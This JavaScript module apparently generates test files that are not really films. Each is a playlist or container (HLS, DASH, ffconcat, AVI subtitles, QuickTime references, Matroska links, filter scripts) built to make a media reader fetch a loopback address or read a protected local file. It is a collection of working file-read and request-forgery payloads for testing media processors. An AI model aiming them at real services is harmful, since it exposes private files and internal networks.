// Files that are no films but ask a reader of films to open something else: a neighbour, an address, a program.
import { deflateSync } from "node:zlib";

const text = (...lines) => Buffer.from(lines.join("\n") + "\n");
const u32 = (n) => Buffer.from([n >>> 24, (n >>> 16) & 255, (n >>> 8) & 255, n & 255]);
const u32le = (n) => Buffer.from([n & 255, (n >>> 8) & 255, (n >>> 16) & 255, n >>> 24]);
const u16 = (n) => Buffer.from([n >> 8, n & 255]);
export const box = (type, ...parts) => {
  const body = Buffer.concat(parts);
  return Buffer.concat([u32(body.length + 8), Buffer.from(type, "latin1"), body]);
};
const chunk = (type, body) => Buffer.concat([Buffer.from(type, "latin1"), u32le(body.length), body, Buffer.alloc(body.length & 1)]);
const list = (type, ...parts) => chunk("LIST", Buffer.concat([Buffer.from(type), ...parts]));
const full = (type, ...parts) => box(type, u32(0), ...parts); // version and flags 0
const zeros = (n) => Buffer.alloc(n);

const hls = (uri, ...more) => text("#EXTM3U", "#EXT-X-VERSION:3", "#EXT-X-TARGETDURATION:1", ...more, "#EXTINF:1,", uri, "#EXT-X-ENDLIST");
const mpd = (base, list) => text('<?xml version="1.0"?>', '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4">',
  `<Representation id="1" bandwidth="1" codecs="avc1.42001e" width="16" height="16"><BaseURL>${base}</BaseURL>${list}</Representation></AdaptationSet></Period></MPD>`);

/** An AVI whose subtitle stream (GAB2) is `inner`: readers of subtitles guess its format again and open what it names. */
function aviWithSubtitles(inner) {
  const header = (type, handler) => chunk("strh", Buffer.concat([Buffer.from(type + handler), zeros(8), zeros(4), u32le(1), u32le(25), zeros(4), u32le(10), zeros(16), zeros(8)]));
  const picture = chunk("strf", Buffer.concat([u32le(40), u32le(16), u32le(16), Buffer.from([1, 0, 24, 0]), Buffer.from("MJPG"), zeros(20)]));
  const main = chunk("avih", Buffer.concat([u32le(40000), zeros(8), u32le(0x10), u32le(10), zeros(4), u32le(2), zeros(4), u32le(16), u32le(16), zeros(16)]));
  const gab = Buffer.concat([Buffer.from("GAB2\0"), Buffer.from([2, 0]), u32le(2), Buffer.from("a\0"), Buffer.from([4, 0]), u32le(inner.length), inner]);
  const body = Buffer.concat([Buffer.from("AVI "), list("hdrl", main, list("strl", header("vids", "MJPG"), picture), list("strl", header("txts", "\0\0\0\0"), chunk("strf", zeros(0)))),
    list("movi", chunk("01tx", gab), chunk("00dc", zeros(64)))]);
  return Buffer.concat([Buffer.from("RIFF"), u32le(body.length), body]);
}

/** A QuickTime film whose samples stand in another file, as `reference` (one box of dref) says. */
function movWithReference(reference) {
  const entry = box("jpeg", zeros(6), u16(1), zeros(16), u16(16), u16(16), u32(0x480000), u32(0x480000), u32(0), u16(1), zeros(32), u16(24), u16(0xffff));
  const table = box("stbl", full("stsd", u32(1), entry), full("stts", u32(1), u32(10), u32(1)), full("stsc", u32(1), u32(1), u32(10), u32(1)), full("stsz", u32(16), u32(10)), full("stco", u32(1), u32(0)));
  const media = box("mdia", full("mdhd", zeros(8), u32(10), u32(10), zeros(4)), full("hdlr", Buffer.from("mhlrvide"), zeros(13)), box("minf", full("vmhd", zeros(8)), box("dinf", full("dref", u32(1), reference)), table));
  const track = box("trak", full("tkhd", zeros(8), u32(1), zeros(4), u32(10), zeros(52), u32(16 << 16), u32(16 << 16)), media);
  return Buffer.concat([box("ftyp", Buffer.from("qt  "), zeros(4), Buffer.from("qt  ")), box("moov", full("mvhd", zeros(8), u32(10), u32(10), zeros(80)), track)]);
}

/** An alias record, as Macintosh programs wrote them: kind 2 is an absolute path, 18 a POSIX path. */
function alias(path) {
  const record = (type, body) => Buffer.concat([u16(type), u16(body.length), body, zeros(body.length & 1)]);
  const name = Buffer.from(path);
  const end = Buffer.from([0xff, 0xff, 0, 0]);
  return full("alis", zeros(10), Buffer.from([4]), Buffer.from("disk"), zeros(23), zeros(4), Buffer.concat([Buffer.from([4]), Buffer.from("film"), zeros(59)]), zeros(16), u16(0), u16(0), zeros(16),
    record(2, Buffer.from(path.replaceAll("/", ":"))), record(18, name), end);
}

function ebml(id, ...parts) {
  const body = Buffer.concat(parts);
  return Buffer.concat([Buffer.from(id, "hex"), Buffer.from([0x08]), Buffer.from([0, 0, 0]), u32(body.length), body]);
}

/** Matroska that says its neighbour segments are to be played before and after it, with an attachment named like a path. */
function linkedMatroska(path) {
  const head = ebml("1a45dfa3", ebml("4282", Buffer.from("matroska")));
  const info = ebml("1549a966", ebml("7384", Buffer.from(path)), ebml("3c83ab", Buffer.from(path)), ebml("3e83bb", Buffer.from(path)));
  return Buffer.concat([head, ebml("18538067", info, ebml("1941a469", ebml("61a7", ebml("466e", Buffer.from(path)), ebml("4660", Buffer.from("text/plain")), ebml("465c", Buffer.from("x")))))]);
}

function png(width, height) {
  const part = (type, body) => Buffer.concat([u32(body.length), Buffer.from(type), body, zeros(4)]);
  return Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), part("IHDR", Buffer.concat([u32(width), u32(height), Buffer.from([8, 0, 0, 0, 0])])), part("IDAT", deflateSync(zeros(height * (width + 1)))), part("IEND", zeros(0))]);
}

const id3 = (body) => Buffer.concat([Buffer.from("ID3\x04\0\0\0\0\0\x0a", "latin1"), zeros(10), body]);

/**
 * [[name, bytes], …]. `port` is a loopback port that listens by TCP and UDP, `file` the absolute path of a file that
 * nobody may read.
 */
export function disguises(port, file) {
  const at = `127.0.0.1:${port}`;
  const http = `http://${at}/clip.ts`;
  const local = `file://${file}`;
  const script = (line) => hls(line);
  return [
    ["hls-http", hls(http)],
    ["hls-file", hls(local)],
    ["hls-path", hls(file)],
    ["hls-neighbour", hls("../" + file.split("/").at(-1))],
    ["hls-key", hls("data:video/mp2t;base64,RwAA", `#EXT-X-KEY:METHOD=AES-128,URI="${http}"`)],
    ["hls-key-file", hls(http, `#EXT-X-KEY:METHOD=AES-128,URI="${local}"`)],
    ["hls-map", hls(http, `#EXT-X-MAP:URI="${local}"`)],
    ["hls-master", text("#EXTM3U", "#EXT-X-STREAM-INF:BANDWIDTH=1", `http://${at}/variant.m3u8`)],
    ["hls-concat", script(`concat:http://${at}/?|${local}`)],
    ["hls-subfile", script(`subfile,,start,0,end,64,,:${file}`)],
    ["hls-crypto", script(`crypto+file:${file}`)],
    ["hls-udp", script(`udp://${at}?timeout=1`)],
    ["hls-bom", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), hls(http)])],
    ["hls-behind-id3", id3(hls(http))],
    ["hls-in-mp4", Buffer.concat([box("ftyp", Buffer.from("isom"), zeros(4)), hls(local), box("mdat", hls(http))])],
    ["dash-http", mpd(`http://${at}/`, '<SegmentList duration="1"><Initialization sourceURL="i"/><SegmentURL media="a"/></SegmentList>')],
    ["dash-file", mpd(local, "")],
    ["dash-template", mpd(`http://${at}/`, '<SegmentTemplate initialization="i.mp4" media="$Number$.m4s" duration="1" startNumber="1"/>')],
    ["ffconcat-http", text("ffconcat version 1.0", `file '${http}'`)],
    ["ffconcat-file", text("ffconcat version 1.0", `file '${file}'`)],
    ["ffconcat-neighbour", text("ffconcat version 1.0", `file ${file.split("/").at(-1)}`, "option safe 0")],
    ["sdp-udp", text("v=0", "o=- 0 0 IN IP4 127.0.0.1", "s=x", "c=IN IP4 127.0.0.1", "t=0 0", `m=video ${port} RTP/AVP 96`, "a=rtpmap:96 H264/90000")],
    ["sdp-multicast", text("v=0", "o=- 0 0 IN IP4 127.0.0.1", "s=x", "c=IN IP4 239.0.0.1/1", "t=0 0", `m=audio ${port} RTP/AVP 0`)],
    ["rtsp-redirector", text(`rtsptextRTSP://${at}/film`)],
    ["asx-redirector", text("[Reference]", `Ref1=http://${at}/film.asf?MSWMExt=.asf`, `Ref2=mmst://${at}/film`)],
    ["real-redirector", text(`rtsp://${at}/film.rm`, `http://${at}/film.rm`)],
    ["smil", text('<smil><head><meta base="' + `http://${at}/` + '"/></head><body><video src="film.mp4"/></body></smil>')],
    ["xspf", text('<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track>', `<location>${http}</location></track></trackList></playlist>`)],
    ["svg-image", text(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="16" height="16"><image x:href="${local}" width="16" height="16"/><image x:href="${http}" width="8" height="8"/></svg>`)],
    ["imf-list", text('<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">', `<ContentTitle>${local}</ContentTitle></CompositionPlaylist>`)],
    ["vobsub-index", text("# VobSub index file, v7 (do not modify this line!)", "size: 720x576", "id: fi, index: 0", "timestamp: 00:00:00:000, filepos: 000000000")],
    ["avi-subtitle-hls", aviWithSubtitles(hls(`concat:http://${at}/?|${local}`))],
    ["xbin-hls", Buffer.concat([Buffer.from("XBIN\x1a\x50\0\x19\0\x10\0", "latin1"), zeros(160), hls(http)])],
    ["ansi-text", Buffer.concat([Buffer.from("\x1b[2J\x1b[1;1H"), text(file, http)])],
    ["mov-alias", movWithReference(alias(file))],
    ["mov-url", movWithReference(full("url ", Buffer.from(http + "\0")))],
    ["mov-other-film", Buffer.concat([box("ftyp", Buffer.from("qt  "), zeros(4)), box("moov", box("rmra", box("rmda", full("rdrf", Buffer.from("url "), u32(http.length + 1), Buffer.from(http + "\0")))))])],
    ["matroska-linked", linkedMatroska(file)],
    ["picture-pattern", png(16, 16), "kuva%03d."],
    ["filter-script", text(`movie=${file},scale=16:16[out0];amovie=${http}[out1]`)],
    ["avisynth", text(`FFVideoSource("${file}")`, `DirectShowSource("${http}")`)],
  ];
}
